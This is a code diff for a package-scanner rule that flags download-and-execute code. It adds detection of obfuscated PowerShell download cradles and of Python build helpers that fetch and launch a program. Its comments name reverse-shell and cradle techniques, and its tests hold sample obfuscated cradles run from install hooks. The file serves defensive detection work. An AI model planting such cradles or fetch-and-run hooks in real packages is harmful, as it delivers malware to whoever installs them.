@@ -10,7 +10,10 @@ crate::declare_rule! {
     /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
     /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
     /// downloads followed by execution, `regsvr32 /i:http`, reverse shells (bash `/dev/tcp`,
-    /// `mkfifo` + netcat, a PowerShell `TCPClient` stream fed to `iex`). Critical at install time, and when
+    /// `mkfifo` + netcat, a PowerShell `TCPClient` stream fed to `iex`), PowerShell cradles whose
+    /// names are joined from pieces and whose download runs through an aliased or computed
+    /// Invoke-Expression (critical when a lifecycle script starts it), a Python script that
+    /// downloads a file and starts that file. Critical at install time, and when
     /// such a command is the argument of a real process start but appears nowhere in the source
     /// as written (decoded, reversed or assembled at run time) in code run on install or import
     /// or decoded from a payload.
@@ -102,7 +105,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 "\t-e",
                 " -c",
                 "\t-c",
-                "python"
+                "python",
+                "urlopen",
+                "urlretrieve",
+                "requests.get"
             ]
         ) {
             continue;
@@ -141,6 +147,32 @@ fn check(pkg: &Package, out: &mut Emitter) {
             if let (Some(d), Some(_)) = (dl.find(&f.text), run.find(&f.text)) {
                 found = Some((d.start() as u32, d.as_str().to_string()));
             }
+        }
+        if found.is_none()
+            && let Some((off, m, hidden)) = ps_hidden_cradle(f)
+        {
+            // Assembled from pieces and run through a computed or aliased Invoke-Expression by a
+            // lifecycle script (`prepare` hooks included): hidden like a decoded command.
+            let base = f.path.rsplit('/').next().unwrap_or(&f.path);
+            let hooked = pkg
+                .files
+                .iter()
+                .any(|s| s.script.is_some() && s.text.contains(base));
+            if hidden && hooked {
+                out.hit_ev(
+                    Severity::Critical,
+                    pkg,
+                    f,
+                    off,
+                    "a lifecycle script runs a PowerShell download cradle whose names are assembled at run time",
+                    m,
+                );
+                continue;
+            }
+            found = Some((off, m));
+        }
+        if found.is_none() {
+            found = py_fetch_run(f);
         }
         if found.is_none() {
             for (off, m) in find_text(f, enc) {
@@ -193,5 +225,173 @@ fn check(pkg: &Package, out: &mut Emitter) {
         if let Some((off, m)) = found {
             out.hit_ev(sev, pkg, f, off, "downloads code and runs it", m);
         }
+    }
+}
+
+/// A PowerShell download cradle written to beat keyword matching (the Invoke-Obfuscation
+/// family): type and method names assembled from pieces (`New-Object ('Net.' + 'WebClient')`,
+/// `$c.('Download' + 'String')($u)`), and what was downloaded run through `Invoke-Expression`
+/// under an alias (`iex`, `sal x iex`, `icm`), `[scriptblock]::Create`, or the call operator
+/// applied to a command name computed at run time (`& ((Get-Variable '*mdr*').Name[3,11,2] -join
+/// '')`, `.($env:ComSpec[4,15,25] -join '')`). Only in PowerShell scripts and commands.
+/// With where it is, what matched, and whether it is hidden: a name assembled from pieces, or
+/// the run spelled other than a plain `iex`/`Invoke-Expression`.
+fn ps_hidden_cradle(f: &crate::package::FileCtx) -> Option<(u32, String, bool)> {
+    let p = f.path.to_ascii_lowercase();
+    let ps_file = p.ends_with(".ps1") || p.ends_with(".psm1");
+    let ps_cmd = f.script.is_some() && {
+        let t = f.text.to_ascii_lowercase();
+        t.contains("powershell") || t.contains("pwsh")
+    };
+    if !(ps_file || ps_cmd) || f.text.len() > 256 * 1024 {
+        return None;
+    }
+    // Undo string concatenation: `'Down' + 'load'` -> `Download`.
+    let joined = crate::regex!(r#"['"]\s*\+\s*['"]"#).replace_all(&f.text, "");
+    let low = joined.to_ascii_lowercase();
+    let download = crate::regex!(
+        r"(?i)net\.webclient|net\.http\.httpclient|\.download(string|data)\b|\b(iwr|irm|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\bwget\s+\S+|\bcurl(\.exe)?\s+\S+"
+    );
+    let d = download.find(&low)?;
+    let run = crate::regex!(
+        r"(?i)\b(iex|invoke-expression)\b|\b(sal|set-alias|new-alias)\s+\S+\s+['\x22]?(iex|invoke-expression)\b|\b(icm|invoke-command)\b[^\n]{0,80}-scriptblock|\[scriptblock\]::create|(?:^|[\s;|{(=])[&.]\s*\(\s*[($]"
+    );
+    let r = run.find(&low)?;
+    // Offsets in the joined text: report the start of the same line in the file.
+    let at = d.start().min(r.start());
+    let line = low.get(..at).map_or(0, |s| s.matches('\n').count());
+    let off = f
+        .text
+        .split_inclusive('\n')
+        .take(line)
+        .map(str::len)
+        .sum::<usize>()
+        .min(f.text.len()) as u32;
+    let plain_download = download.is_match(&f.text.to_ascii_lowercase());
+    let plain_run = matches!(r.as_str().trim(), "iex" | "invoke-expression");
+    Some((
+        off,
+        format!(
+            "{} … {}",
+            crate::package::one_line(d.as_str()),
+            crate::package::one_line(r.as_str().trim())
+        ),
+        !plain_download || !plain_run,
+    ))
+}
+
+/// A Python script (a build helper, a gyp action) that downloads a file and starts that same
+/// file: `urlopen(u)` written with `open(dst, "wb")` (or `urlretrieve(u, dst)`), then
+/// `subprocess.Popen([dst])`, `os.system(dst)`, `os.startfile(dst)`. Downloading a source archive
+/// and running `tar` or `make` on it is not this.
+fn py_fetch_run(f: &crate::package::FileCtx) -> Option<(u32, String)> {
+    if f.script.is_some() || f.text.len() > 256 * 1024 {
+        return None;
+    }
+    let python = f.path.ends_with(".py")
+        || f.text.starts_with("#!") && f.text.lines().next().is_some_and(|l| l.contains("python"));
+    if !python {
+        return None;
+    }
+    let dl = crate::regex!(
+        r"\b(urllib\.request\.urlopen|urlopen|urlretrieve|requests\.get|urllib2\.urlopen|HTTPS?Connection)\s*\("
+    )
+    .find(&f.text)?;
+    let dest = crate::regex!(
+        r#"\bopen\(\s*([A-Za-z_]\w*)\s*,\s*['"]wb['"]|urlretrieve\([^,\n]+,\s*([A-Za-z_]\w*)"#
+    );
+    for c in dest.captures_iter(&f.text) {
+        let Some(var) = c.get(1).or_else(|| c.get(2)) else {
+            continue;
+        };
+        let start = regex::Regex::new(&format!(
+            r"\b(subprocess\.(Popen|run|call|check_call|check_output)|os\.(system|startfile|exec\w*|spawn\w*|popen))\(\s*\[?\s*{}\b",
+            regex::escape(var.as_str())
+        ))
+        .ok()?;
+        if let Some(m) = start.find(&f.text) {
+            return Some((
+                dl.start() as u32,
+                format!(
+                    "{} … {}",
+                    crate::package::one_line(dl.as_str()),
+                    crate::package::one_line(m.as_str())
+                ),
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod ps_tests {
+    use crate::rules::testing::run;
+
+    const PS: &str = "$u = -join ([char[]](104,116,116,112))\n$c = New-Object ('Net.' + 'Web' + 'Client')\n$d = $c.('Download' + 'String')($u)\n& ((Get-Variable '*mdr*').Name[3,11,2] -join '') $d\n";
+
+    fn pkg(ps: &str) -> String {
+        format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preinstall\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{ps}"
+        )
+    }
+
+    #[test]
+    fn concatenated_webclient_run_through_a_computed_iex_is_a_cradle() {
+        let hits = run(&super::RULE, "package.json", &pkg(PS));
+        assert!(hits.iter().any(|h| h.file == "tools/p.ps1"), "{hits:?}");
+    }
+
+    #[test]
+    fn the_hidden_cradle_run_by_a_prepare_hook_is_critical() {
+        let case = format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{{\"preprepare\":\"powershell -NoProfile -File tools/p.ps1\"}}}}\n=== tools/p.ps1\n{PS}"
+        );
+        let hits = run(&super::RULE, "package.json", &case);
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == crate::model::Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn an_aliased_invoke_expression_of_a_download_is_a_cradle() {
+        let ps = "Set-Alias run Invoke-Expression\n$s = (New-Object Net.WebClient).DownloadString($env:U)\nrun $s\n";
+        let hits = run(&super::RULE, "package.json", &pkg(ps));
+        assert!(!hits.is_empty());
+    }
+
+    #[test]
+    fn a_download_saved_and_a_local_script_run_is_not_a_cradle() {
+        let ps = "$c = New-Object Net.WebClient\n$c.DownloadFile($url, $zip)\nExpand-Archive $zip -DestinationPath $dir\n& (Join-Path $dir 'setup.ps1')\n";
+        let hits = run(&super::RULE, "package.json", &pkg(ps));
+        assert!(hits.is_empty(), "{hits:?}");
+    }
+}
+
+#[cfg(test)]
+mod py_tests {
+    use crate::rules::testing::run;
+
+    fn pkg(py: &str) -> String {
+        format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}}\n=== binding.gyp\n{{\"targets\":[{{\"target_name\":\"a\",\"actions\":[{{\"action_name\":\"g\",\"inputs\":[],\"outputs\":[\"c.h\"],\"action\":[\"python3\",\"tools/gen.py\",\"<@(_outputs)\"]}}]}}]}}\n=== tools/gen.py\n{py}"
+        )
+    }
+
+    #[test]
+    fn a_gyp_action_that_downloads_a_program_and_starts_it_is_critical() {
+        let py = "#!/usr/bin/env python3\nimport urllib.request, subprocess, os\ndst = os.path.join('/tmp', '.p')\nwith urllib.request.urlopen(BASE + tag) as r, open(dst, 'wb') as f:\n    f.write(r.read())\nos.chmod(dst, 0o755)\nsubprocess.Popen([dst], start_new_session=True)\n";
+        let hits = run(&super::RULE, "package.json", &pkg(py));
+        assert!(
+            hits.iter().any(|h| h.file == "tools/gen.py" && h.severity == crate::model::Severity::Critical),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn a_gyp_action_that_downloads_sources_and_unpacks_them_is_not() {
+        let py = "#!/usr/bin/env python3\nimport urllib.request, subprocess\nurllib.request.urlretrieve(URL, tarball)\nsubprocess.check_call(['tar', 'xzf', tarball, '-C', out])\n";
+        assert!(run(&super::RULE, "package.json", &pkg(py)).is_empty());
     }
 }
